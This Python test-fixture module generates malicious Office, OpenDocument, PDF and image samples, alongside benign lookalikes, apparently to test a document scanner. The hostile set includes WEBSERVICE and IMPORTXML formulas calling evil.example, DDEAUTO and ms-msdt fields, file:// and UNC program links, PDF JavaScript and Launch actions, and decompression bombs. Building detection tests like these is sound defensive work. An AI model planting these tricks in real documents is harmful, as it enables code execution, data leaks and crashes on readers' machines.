"""Originals that hide what they do in corners, and ordinary ones that look a little like them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from PIL import Image, ImageDraw

import filemakers as make

Maker = Callable[[], bytes]
_WORD = "word/document.xml"
_CELLS = "xl/worksheets/sheet1.xml"
_W = 'xmlns:w="urn:w" xmlns:r="urn:r" xmlns:v="urn:v" xmlns:o="urn:o" xmlns:x="urn:x"'
_EVIL = "https://evil.example/a"
_DDE = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\a.exe'
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def _parts(honest: Maker, parts: Mapping[str, bytes | str]) -> Maker:
    return lambda: make.changed(honest(), parts)


def _word(name: str, xml: str) -> Maker:
    return _parts(make.docx, {f"word/{name}": f"<a {_W}>{xml}</a>"})


def _body(xml: str) -> Maker:
    return lambda: make.replaced(make.docx(), _WORD, "</w:body>", f"{xml}</w:body>")


def _field(instruction: str) -> str:
    said = instruction.replace("&", "&amp;").replace("<", "&lt;")
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        f'{said}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x'
        '</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _link(target: str) -> Maker:
    listed = make.relation("hyperlink", target.replace("&", "&amp;"))
    return _parts(make.docx, {"word/_rels/document.xml.rels": listed})


def _book(parts: Mapping[str, bytes | str]) -> Maker:
    return _parts(make.xlsx, parts)


def _formula(formula: str) -> Maker:
    written = formula.replace("&", "&amp;").replace("<", "&lt;")
    return _book({_CELLS: f"<worksheet><sheetData><f>{written}</f></sheetData></worksheet>"})


def _odt(xml: str, name: str = "styles.xml") -> Maker:
    spaces = " ".join(
        f'xmlns:{one}="urn:{one}"'
        for one in ("xlink", "text", "draw", "form", "xforms", "script", "office", "chart", "db")
    )
    return lambda: make.odt(more={name: f"<office:a {spaces}>{xml}</office:a>"})


def _pdf(*objects: str, catalogue: str = "") -> Maker:
    return lambda: make.pdf(catalogue=catalogue, objects=objects)


def _updated_pdf(added: str, catalogue: str) -> bytes:
    """A PDF whose second revision puts another catalogue in the place of the first."""
    first = make.pdf()
    table = first.rindex(b"xref\n0 1")
    out = bytearray(first)
    places = {}
    for number, body in {1: f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>", 100: added}.items():
        places[number] = len(out)
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    start = len(out)
    rows = "".join(f"{number} 1\n{place:010} 00000 n \n" for number, place in places.items())
    out += f"xref\n{rows}trailer\n<< /Size 101 /Root 1 0 R /Prev {table} >>\n".encode()
    return bytes(out + f"startxref\n{start}\n%%EOF\n".encode())


def _stream(head: str, content: bytes) -> str:
    return f"<< {head} /Length {len(content)} >>\nstream\n{content.decode('latin-1')}\nendstream"


def _with_stream(packed: bytes) -> bytes:
    shown = _stream("/Filter /FlateDecode", packed)
    return make.pdf(objects=[shown]).replace(b"/Contents 11 0 R", b"/Contents 100 0 R")


def _layered_bomb() -> bytes:
    packed = b"q " * 100_000_000
    for _ in range(2):
        packed = zlib.compress(packed, 9)
    shown = _stream("/Filter [/FlateDecode /FlateDecode]", packed)
    return make.pdf(objects=[shown]).replace(b"/Contents 11 0 R", b"/Contents 100 0 R")


def _png_with(kind: bytes, content: bytes) -> bytes:
    whole = make.picture("PNG")
    chunk = struct.pack(">I", len(content)) + kind + content
    chunk += struct.pack(">I", zlib.crc32(kind + content))
    return whole[:33] + chunk + whole[33:]


def _nested_bomb() -> bytes:
    inner = make.changed(make.xlsx(), {"xl/media/a.png": bytes(150_000_000)})
    return make.changed(make.docx(), {"word/embeddings/a.xlsx": inner})


def _twice(name: str, content: str) -> bytes:
    out = io.BytesIO(make.docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, content)
    return out.getvalue()


HOSTILE_CORNERS: dict[str, tuple[str, Maker]] = {
    # Excel
    "xlsx: service in a column of a table": (".xlsx", _book({
        "xl/tables/table1.xml": f'<table><calculatedColumnFormula>WEBSERVICE("{_EVIL}")'
        "</calculatedColumnFormula></table>"
    })),
    "xlsx: service in the sums of a table": (".xlsx", _book({
        "xl/tables/table1.xml": f'<table><totalsRowFormula>WEBSERVICE("{_EVIL}")'
        "</totalsRowFormula></table>"
    })),
    "xlsx: service in a field of a pivot": (".xlsx", _book({
        "xl/pivotCache/pivotCacheDefinition1.xml":
            f"<a><cacheField formula='WEBSERVICE(\"{_EVIL}\")'/></a>"
    })),
    "xlsx: object under the name of a picture": (".xlsx", _book({
        "xl/media/image1.png": make.OLE
    })),
    "xlsx: macro sheet among sheets": (".xlsx", _book({
        "xl/worksheets/sheet9.xml": "<xm:macrosheet xmlns:xm='urn:xm'/>"
    })),
    "xlsx: macro sheet by its type": (".xlsx", lambda: make.replaced(
        make.xlsx(), "[Content_Types].xml", "</Types>",
        '<Override PartName="/xl/worksheets/sheet9.xml" '
        'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
    )),
    "xlsx: real time data kept": (".xlsx", _book({
        "xl/volatileDependencies.xml": '<volTypes><volType type="realTimeData"><main first="evil"/>'
        "</volType></volTypes>"
    })),
    "xlsx: data of a web page for Google": (".xlsx", _formula(f'IMPORTXML("{_EVIL}","//a")')),
    "xlsx: table of a web page for Google": (".xlsx", _formula(f'IMPORTHTML("{_EVIL}","table",1)')),
    "xlsx: other workbook for Google": (".xlsx", _formula(f'IMPORTRANGE("{_EVIL}","A1")')),
    "xlsx: conversation as a function": (".xlsx", _formula('DDE("soffice";"a.ods";"A1")')),
    "xlsx: link from codes": (".xlsx", _formula('HYPERLINK(CHAR(102)&"ile:///C:/calc.exe","x")')),
    "xlsx: link joined": (".xlsx", _formula('HYPERLINK(CONCATENATE("file:","//evil/a.exe"),"x")')),
    "xlsx: link chosen": (".xlsx", _formula('HYPERLINK(IF(1,"file:///C:/calc.exe","#a"),"x")')),
    "xlsx: macro of an old drawing": (".xlsx", _book({
        "xl/drawings/vmlDrawing1.vml": f"<xml {_W}><v:shape><x:ClientData ObjectType='Button'>"
        "<x:FmlaMacro>[0]!Evil</x:FmlaMacro></x:ClientData></v:shape></xml>"
    })),
    "xlsx: picture of a host in an old drawing": (".xlsx", _book({
        "xl/drawings/vmlDrawing1.vml":
            f"<xml {_W}><v:shape><br><v:imagedata src='{_EVIL}.png'/></v:shape></xml>"
    })),
    "xlsx: object of an old drawing": (".xlsx", _book({
        "xl/drawings/vmlDrawing1.vml": f"<xml {_W}><o:OLEObject Type='Link'></xml>"
    })),
    "xlsx: program behind an old drawing": (".xlsx", _book({
        "xl/drawings/vmlDrawing1.vml":
            f"<xml {_W}><v:shape href='file:///C:/calc.exe'></v:shape></xml>"
    })),
    "xlsx: chart of another workbook": (".xlsx", _book({
        "xl/charts/_rels/chart1.xml.rels": make.relation("oleObject", "file:///C:/a.xlsx")
    })),
    "xlsx: sheet behind a comment": (".xlsx", _book({
        _CELLS: f'<!-- <svg> --><worksheet><f>WEBSERVICE("{_EVIL}")</f></worksheet>'
    })),
    # Word
    "docx: words behind a comment": (".docx", lambda: make.changed(make.docx(), {
        "word/header1.xml": f"<!-- <svg> --><w:hdr {_W}>{_DDE}</w:hdr>"
    })),
    "docx: part far from its beginning": (".docx", lambda: make.changed(make.docx(), {
        "word/header1.dat": " \n" * 90 + f"<w:hdr {_W}>{_DDE}</w:hdr>"
    })),
    "docx: link behind a switch": (
        ".docx", _body(_field('HYPERLINK \\o "Xem" "file:///C:/Windows/calc.exe"'))
    ),
    "docx: link behind a window": (
        ".docx", _body(_field('HYPERLINK \\t "_blank" "ms-msdt:/id PCWDiagnostic"'))
    ),
    "docx: link without a blank": (".docx", _body(_field('HYPERLINK"file:///C:/calc.exe"'))),
    "docx: link after a place": (".docx", _body(_field('HYPERLINK \\l "a" "javascript:x"'))),
    "docx: pack of a schema": (".docx", _word(
        "settings.xml",
        '<sl:schemaLibrary xmlns:sl="urn:sl"><sl:schema sl:uri="a" '
        f'sl:manifestLocation="{_EVIL}.xml"/></sl:schemaLibrary>',
    )),
    "docx: field of a footnote in one element": (".docx", _word(
        "footnotes.xml", '<w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\evil\\\\a&quot; "/>'
    )),
    "docx: field of a footer over paragraphs": (".docx", _word(
        "footer1.xml",
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INC</w:instrText>'
        "</w:r></w:p><w:p><w:r><w:instrText>LUDE</w:instrText></w:r></w:p><w:p><w:r><w:instrText>"
        f'PICTURE "{_EVIL}"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    )),
    "docx: field of the building blocks": (".docx", _word("glossary/document.xml", _DDE)),
    "docx: frames of a host": (".docx", _parts(make.docx, {
        "word/_rels/webSettings.xml.rels": make.relation("frame", _EVIL)
    })),
    "docx: styles of a host": (".docx", _parts(make.docx, {
        "word/glossary/_rels/document.xml.rels": make.relation("styles", _EVIL)
    })),
    "docx: share in codes": (".docx", _link("%5C%5Cevil.example%5Cs%5Ca.doc")),
    "docx: protocol in codes": (".docx", _link("file%3A///C:/Windows/calc.exe")),
    "docx: program beside the file": (".docx", _link("bieu-mau.exe")),
    "docx: program two folders above": (".docx", _link("..\\..\\Windows\\System32\\calc.exe")),
    "docx: shortcut beside the file": (".docx", _link("Phu-luc.pdf.lnk")),
    "docx: file from the reader's disk by mail": (
        ".docx", _link("mailto:a@evil.example?subject=a&attach=C:\\a.docx")
    ),
    "docx: soft hyphen in a protocol": (".docx", _link("java\u00adscript:alert(1)")),
    "docx: turned letters in a protocol": (".docx", _link("\u202efile:///C:/calc.exe")),
    "docx: protocol of appinstaller": (".docx", _link(f"ms-appinstaller:?source={_EVIL}")),
    "docx: device of Windows": (".docx", _link("\\\\.\\globalroot\\device")),
    "docx: long name of a share": (".docx", _link("\\\\?\\UNC\\evil\\s")),
    "docx: program among fonts": (".docx", _parts(make.docx, {
        "word/fonts/font1.odttf": b"MZ\x90\0" + bytes(90)
    })),
"docx: bomb in a chart": (".docx", _nested_bomb),
    "docx: second text": (".docx", lambda: _twice(_WORD, "<a/>")),
    "docx: part above the file": (".docx", _parts(make.docx, {"word/media/../../../a.xml": "x"})),
    "docx: part of a disk": (".docx", _parts(make.docx, {"C:/a.xml": "x"})),
    "docx: picture of a page": (".docx", _parts(make.docx, {
        "word/media/a.png": '<svg xmlns="urn:s" onload="alert(1)"/>'
    })),
    # OpenDocument
    "odt: text behind a comment": (".odt", lambda: make.odt(more={
        "styles.xml": '<!-- <svg> --><a xmlns:s="urn:s"><s:event-listener/></a>'
    })),
    "odt: library inside an object": (".odt", lambda: make.odt(more={
        "Object 1/Basic/Standard/Evil.xml": "<a>Sub Main</a>"
    })),
    "odt: form of a database": (
        ".odt", _odt('<form:form form:datasource="\\\\evil\\a.odb" form:command="a"/>')
    ),
    "odt: data of a host in a form": (".odt", _odt(f'<xforms:instance src="{_EVIL}"/>')),
    "odt: rules of a host in a form": (".odt", _odt(f'<xforms:model schema="{_EVIL}"/>')),
    "odt: script behind a source": (
        ".odt", _odt('<text:bibliography-mark text:url="javascript:alert(1)"/>')
    ),
    "odt: picture in codes": (".odt", _odt('<draw:image xlink:href="%2e%2e/%2e%2e/a.png"/>')),
    "odt: chart of a host": (".odt", _odt(f'<chart:chart xlink:href="{_EVIL}"/>')),
    "odt: words of a host": (
        ".odt", _odt(f'<text:alphabetical-index-auto-mark-file xlink:href="{_EVIL}"/>')
    ),
    "odt: button that opens a program": (
        ".odt", _odt('<form:button xlink:href="file:///C:/calc.exe"/>')
    ),
    # PDF
    "pdf: command of an occasion elsewhere": (
        ".pdf",
        _pdf("<< /O << /S /Named /N /SaveAs >> >>", catalogue="/AA 100 0 R"),
    ),
    "pdf: unknown action of an occasion elsewhere": (
        ".pdf", _pdf("<< /WP 101 0 R >>", "<< /S /Evil >>", catalogue="/AA 100 0 R")
    ),
    "pdf: actions one after another": (
        ".pdf",
        _pdf("<< /S /GoTo /D [10 0 R /Fit] /Next 101 0 R >>", "[ 102 0 R ]", "<< /S /Evil >>",
             catalogue="/OpenAction 100 0 R"),
    ),
    "pdf: script of a field": (
        ".pdf",
        _pdf("<< /FT /Tx /T (a) /AA << /K << /S /JavaScript /JS (a) >> >> >>",
             catalogue="/AcroForm << /Fields [100 0 R] >>"),
    ),
    "pdf: script of an outline": (
        ".pdf", _pdf("<< /Title (a) /A << /S /JavaScript /JS 101 0 R >> >>", "(app.alert)")
    ),
    "pdf: script of a name": (
        ".pdf", _pdf("<< /Names [(a) 101 0 R] >>", "<< /S /JavaScript /JS (x) >>")
    ),
    "pdf: second revision": (
        ".pdf", lambda: _updated_pdf("<< /S /Launch /F (a.exe) >>", "/OpenAction 100 0 R")
    ),
    "pdf: address in wide codes": (
        ".pdf",
        _pdf(f"<< /S /URI /URI <FEFF{'javascript:x'.encode('utf-16-be').hex()}> >>"),
    ),
    "pdf: address with control letters": (
        ".pdf", _pdf(r"<< /S /URI /URI (\000java\010script:x) >>")
    ),
    "pdf: address elsewhere": (".pdf", _pdf("<< /S /URI /URI 101 0 R >>", "(file:///C:/a.exe)")),
    "pdf: picture of a printer's share": (
        ".pdf", _pdf("<< /OPI << /2.0 << /Type /OPI /F (\\\\\\\\evil\\\\a.tif) >> >> >>")
    ),
    "pdf: share beside the page": (
        ".pdf", _pdf("<< /Type /Filespec /F (\\\\\\\\evil\\\\s\\\\a.pdf) >>",
                     catalogue="/AF [100 0 R]")
    ),
    "pdf: annotation of a film": (".pdf", _pdf("<< /Type /Annot /Subtype /Movie >>")),
    "pdf: words that unpack without end": (
        ".pdf", lambda: _with_stream(zlib.compress(b"q " * 200_000_000, 9))
    ),
    "pdf: packed twice, without end": (".pdf", _layered_bomb),
# Pictures and others
    "png: words that unpack without end": (
        ".png", lambda: _png_with(b"zTXt", b"a\0\0" + zlib.compress(bytes(90_000_000), 9))
    ),
    "png: page named picture": (".png", lambda: b"<html><script>alert(1)</script></html>"),
"txt: mark before a page": (".txt", lambda: b"\xef\xbb\xbf <HTML><script>1</script>"),
}  # fmt: skip


def _photo(kind: str, mode: str = "RGB", **more: object) -> bytes:
    page = Image.new("L", (1240, 1754), 245)
    pen = ImageDraw.Draw(page)
    for line in range(30):
        pen.text((90, 90 + 50 * line), "Kế hoạch thi đua yêu nước năm 2026", fill=10, font_size=32)
    out = io.BytesIO()
    page.convert(mode).save(out, kind, **more)
    return out.getvalue()


def _tracked() -> bytes:
    xml = (
        '<w:p><w:ins w:id="1" w:author="Lan"><w:r><w:t>thêm</w:t></w:r></w:ins><w:del w:id="2" '
        'w:author="Lan"><w:r><w:delText>bớt</w:delText></w:r></w:del></w:p>'
    )
    return make.changed(_body(xml)(), {
        "word/people.xml": '<w15:people xmlns:w15="urn:p"><w15:person w15:author="Lan">'
        '<w15:presenceInfo w15:providerId="None" w15:userId="Lan"/></w15:person></w15:people>',
        "word/commentsExtended.xml": '<w15:commentsEx xmlns:w15="urn:p"/>',
    })  # fmt: skip


def _old_comment() -> bytes:
    vml = (
        f"<xml {_W}><o:shapelayout v:ext='edit'><o:idmap v:ext='edit' data='1'/></o:shapelayout>"
        "<v:shapetype id='_x0000_t202' path='m,l,21600r,xe'><v:stroke joinstyle='miter'/>"
        "</v:shapetype><v:shape id='_x0000_s1' type='#_x0000_t202' fillcolor='#ffffe1'><v:fill "
        "color2='#ffffe1'/><v:textbox><div style='text-align:left'>a<br></div></v:textbox>"
        "<x:ClientData ObjectType='Note'><x:Anchor>1, 15</x:Anchor></x:ClientData></v:shape></xml>"
    )
    return make.changed(make.xlsx(), {"xl/drawings/vmlDrawing1.vml": vml})


_FORM = (
    "<< /FT /Tx /T (ten) /V (a) /Subtype /Widget /Rect [0 0 9 9] /F 4 >>",
    "<< /FT /Btn /Ff 32768 /T (chon) /Subtype /Widget /Kids [] >>",
    "<< /FT /Btn /Ff 65536 /T (xoa) /Subtype /Widget /A << /S /ResetForm >> >>",
    "<< /FT /Ch /T (xa) /Opt [(a) (b)] /Subtype /Widget >>",
)
ORDINARY: dict[str, tuple[str, Maker]] = {
    "pdf: telephone": (".pdf", _pdf("<< /S /URI /URI (tel:+842163866866) >>")),
    "pdf: mail with a subject": (
        ".pdf", _pdf("<< /S /URI /URI (mailto:a@b.gov.vn?subject=G%C3%B3p%20%C3%BD&cc=c@d.vn) >>")
    ),
    "pdf: web address with a port": (".pdf", _pdf("<< /S /URI /URI (http://a.gov.vn:8080/x) >>")),
    "pdf: form without scripts": (
        ".pdf", _pdf(*_FORM, catalogue="/AcroForm << /Fields [100 0 R 101 0 R] /DA (x) >>")
    ),
    "pdf: marks and notes": (".pdf", _pdf(
        "<< /Subtype /Highlight /Contents (a) /Popup 101 0 R >>", "<< /Subtype /Popup >>",
        "<< /Subtype /Stamp /Name /Approved >>", "<< /Subtype /FreeText /DA (x) >>",
    )),
    "pdf: layers": (".pdf", _pdf(
        "<< /Type /OCG /Name (Lop 1) >>", catalogue="/OCProperties << /OCGs [100 0 R] /D << >> >>"
    )),
    "pdf: archive form with colours": (".pdf", _pdf(
        catalogue="/OutputIntents [<< /S /GTS_PDFA1 /OutputConditionIdentifier (sRGB) >>]"
    )),
    "pdf: signed and stamped with time": (".pdf", lambda: _updated_pdf(
        "<< /Type /DocTimeStamp /SubFilter /ETSI.RFC3161 /ByteRange [0 1 2 3] /Contents <00> >>",
        "/DSS << /Certs [] >> /AcroForm << /SigFlags 3 /Fields [] >>",
    )),
    "pdf: turns of pages and labels": (".pdf", _pdf(
        "<< /Trans << /S /Dissolve /D 1 >> >>", catalogue="/PageMode /UseOutlines"
    )),
    "pdf: structure with a picture": (".pdf", _pdf(
        "<< /Type /StructElem /S /Figure /Alt (x) /P 1 0 R /A [<< /O /Layout /BBox [0 0 1 1] >>] >>"
    )),
    "pdf: way back by an outline": (
        ".pdf", _pdf("<< /Title (Muc 1) /Dest [10 0 R /XYZ 0 800 0] /Next 101 0 R >>",
                     "<< /Title (Muc 2) /A << /S /GoTo /D (a) >> /Prev 100 0 R >>")
    ),
    "docx: changes that are tracked": (".docx", _tracked),
    "docx: page of pages": (".docx", _word(
        "footer1.xml", _field("PAGE") + _field("NUMPAGES \\* Arabic") + _field("SEQ Hình")
    )),
    "docx: fields of forms": (".docx", _body(
        _field("FORMTEXT") + _field("FORMCHECKBOX") + _field("DATE \\@ dd/MM/yyyy")
        + _field("REF _Ref1 \\h") + _field("STYLEREF 1") + _field("DOCPROPERTY Title")
    )),
    "docx: fields left of a merge": (".docx", _body(_field("MERGEFIELD Ho_ten"))),
    "docx: sources of a library": (".docx", _body(_field("ADDIN ZOTERO_ITEM CSL_CITATION {}"))),
    "docx: link with words to show": (
        ".docx", _body(_field('HYPERLINK "https://a.gov.vn" \\o "Xem LINK" \\t "_blank"'))
    ),
    "docx: link behind words to show": (
        ".docx", _body(_field('HYPERLINK \\o "Xem" "https://a.gov.vn"'))
    ),
    "docx: mail": (".docx", _link("mailto:vanphong@xa.gov.vn?subject=H%E1%BB%8Fi")),
    "docx: telephone": (".docx", _link("tel:0216.3866.866")),
    "docx: file beside it": (".docx", _link("Phu%20luc%201.docx")),
    "docx: address with codes": (".docx", _link("https://a.gov.vn/t%E1%BB%87p.exe?x=%5Cb")),
    "docx: fonts inside": (".docx", _parts(make.docx, {"word/fonts/font1.odttf": b"\x07" * 900})),
    "docx: mark of water": (".docx", _word(
        "header1.xml", '<w:pict><v:shape id="W" type="#t136" style="x"><v:textpath '
        'style="font-family:Times" string="DỰ THẢO"/></v:shape></w:pict>'
    )),
    "docx: chart with its figures": (".docx", _parts(make.docx, {
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": make.xlsx(),
        "word/charts/chart1.xml": "<c:a xmlns:c='urn:c'><c:f>Sheet1!$A$1</c:f></c:a>",
        "word/charts/_rels/chart1.xml.rels": make.relation(
            "package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", "Internal"
        ),
    })),
    "docx: signature": (".docx", _parts(make.docx, {
        "_xmlsignatures/sig1.xml": "<Signature xmlns='urn:d'/>",
        "_xmlsignatures/origin.sigs": b"",
        "_xmlsignatures/_rels/origin.sigs.rels": make.relation("signature", "sig1.xml", "Internal"),
    })),
    "docx: answers to comments": (
        ".docx", _word("comments.xml", "<w:p><w:r><w:t>DDE?</w:t></w:r></w:p>")
    ),
    "xlsx: comment of old Excel": (".xlsx", _old_comment),
    "xlsx: conversation about a cell": (".xlsx", _book({
        "xl/threadedComments/threadedComment1.xml": "<ThreadedComments/>",
        "xl/persons/person.xml": "<personList/>",
    })),
    "xlsx: strokes between words of sheets": (
        ".xlsx", _formula("'Biểu 1'!A1&\"|\"&'Biểu 2'!B1")
    ),
    "xlsx: strokes taken out": (".xlsx", _formula('SUBSTITUTE(A1,"|",Sheet2!B1)')),
    "xlsx: sum of words": (".xlsx", _formula('IF(A1="a|b","Có!","Không!")')),
    "xlsx: web link by a formula": (".xlsx", _formula('HYPERLINK("https://a.gov.vn/"&A1,"Xem")')),
    "xlsx: link chosen by words": (
        ".xlsx", _formula('HYPERLINK(IF(A1="Loại: a","#a","#b"),"Đến")')
    ),
    "xlsx: link by a cell": (".xlsx", _formula('HYPERLINK(B2,"Xem")')),
    "xlsx: link to a sheet": (".xlsx", _formula("HYPERLINK(\"#'Biểu 1'!A1\",\"Xem\")")),
    "xlsx: mail by a formula": (".xlsx", _formula('HYPERLINK("mailto:"&C3,"Gửi")')),
    "xlsx: column of a table": (".xlsx", _book({
        "xl/tables/table1.xml": "<table><calculatedColumnFormula>Bảng1[[#This Row],[Số xã]]*2"
        "</calculatedColumnFormula></table>"
    })),
    "xlsx: chart": (".xlsx", _book({
        "xl/charts/chart1.xml": "<c:a xmlns:c='urn:c'><c:f>'Biểu 1'!$A$1:$A$9</c:f></c:a>"
    })),
    "xlsx: pivot of its own sheet": (".xlsx", _book({
        "xl/pivotCache/pivotCacheDefinition1.xml":
            "<a><cacheSource type='worksheet'/><cacheField name='x' formula='a*2'/></a>"
    })),
    "xlsx: area to print": (".xlsx", _book({
        "xl/workbook.xml": "<workbook><sheets><sheet/></sheets><definedName "
        "name='_xlnm.Print_Area'>'Biểu 1'!$A$1:$F$40</definedName></workbook>"
    })),
    "xlsx: picture in a cell": (".xlsx", _book({
        "xl/richData/rdrichvaluestructure.xml": '<rvStructures><s t="_localImage"/></rvStructures>'
    })),
    "odt: chart of its own": (".odt", _odt('<draw:object xlink:href="./Object 1"/>')),
    "odt: plain form": (".odt", _odt(
        '<form:form form:name="Form" xlink:href=""><form:text form:id="a"/></form:form>'
    )),
    "odt: source of a text": (
        ".odt", _odt('<text:bibliography-mark text:url="https://chinhphu.vn/"/>')
    ),
    "odt: mail and place": (".odt", _odt(
        '<text:a xlink:href="mailto:a@b.vn">a</text:a><text:a xlink:href="#Bang1|table">b</text:a>'
    )),
    "odt: form that keeps what is written": (".odt", _odt('<xforms:instance id="a"/>')),
    "jpeg: photograph with a place": (".jpg", lambda: _photo("JPEG", exif=_exif())),
    "jpeg: four colours": (".jpg", lambda: _photo("JPEG", "CMYK")),
    "png: two colours": (".png", lambda: _photo("PNG", "1")),
    "png: palette": (".png", lambda: _photo("PNG", "P")),
    "png: words beside the picture": (".png", lambda: _png_with(b"tEXt", b"Software\0Scan")),
    "tiff: fax": (".tif", lambda: _photo("TIFF", "1", compression="group4")),
    "txt: words about a page": (
        ".txt", "Kế hoạch: trang dùng thẻ <script> và <html> như sau.".encode
    ),
}  # fmt: skip


def _exif() -> Image.Exif:
    about = Image.Exif()
    about[0x010F] = "Scan"
    return about
